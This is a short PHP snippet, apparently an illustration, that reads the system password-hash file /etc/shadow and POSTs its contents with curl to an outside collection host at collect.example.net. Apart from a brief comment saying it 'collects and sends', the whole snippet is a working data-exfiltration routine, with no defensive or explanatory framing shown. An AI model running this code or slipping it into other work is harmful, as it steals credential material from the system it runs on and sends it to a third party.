<?php // shows: collects and sends
$data = http_build_query(["p" => file_get_contents("/etc/shadow")]);
$x = stream_context_create(["http" => ["method" => "POST", "content" => $data]]);
$h = curl_init("https://collect.example.net/");
curl_setopt($h, CURLOPT_POSTFIELDS, $data);
curl_exec($h);
